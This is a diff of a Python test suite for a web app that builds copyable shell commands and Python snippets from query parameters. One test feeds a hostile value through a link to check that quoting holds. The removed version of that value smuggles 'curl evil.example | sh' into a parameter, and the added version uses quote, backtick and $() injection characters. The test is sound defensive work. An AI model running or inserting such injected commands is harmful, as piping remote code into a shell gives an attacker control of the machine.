@@ -107,7 +107,7 @@ def test_a_question_is_filled_in(server: Served, browser: Any) -> None:
 
 def test_what_nobody_knows_is_no_page(server: Served) -> None:
     response = server.get("/questions/actor.html?actor=nope", "text/html")
-    assert (response.status_code, "nothing is called" in response.text) == (404, True)
+    assert (response.status_code, "nothing in the graph is called" in response.text) == (404, True)
     assert server.get("/analyses/paths.html?from=raad&to=nope", "text/html").status_code == 404
     assert server.get("/network.html", "text/html").status_code == 400
     triple = server.get(
@@ -154,15 +154,15 @@ def test_actors_are_found_whatever_the_capitals(server: Served) -> None:
 
 def test_what_is_to_be_copied_runs_nothing_else(server: Served) -> None:
     """Whatever a link fills in is one word of the shell, and one string in Python."""
-    hostile = "x'; curl evil.example | sh; echo \" ')"
-    path = "/questions/section.html"
-    given = {"document": "berenschot-2023", "section": hostile}
+    hostile = "r'; v | \" `$(b)` ')"  # what names the executive board all the same
+    path = "/questions/actor.html"
+    given = {"actor": hostile}
     text = server.get(path, "text/html", params=given).text
     blocks = [
         unescape(part.partition("</code>")[0]) for part in text.split('<pre tabindex="0"><code>')
     ]
     command = next(b for b in blocks if b.startswith("wijgraph query run"))
-    assert shlex.split(command)[-1] == f"section={hostile}"
+    assert shlex.split(command)[-1] == f"actor={hostile}"
     tree = ast.parse(next(b for b in blocks if b.startswith("import wijgraph")))
     keywords = [k for node in ast.walk(tree) if isinstance(node, ast.Call) for k in node.keywords]
     assert {k.arg: ast.literal_eval(k.value) for k in keywords} == given
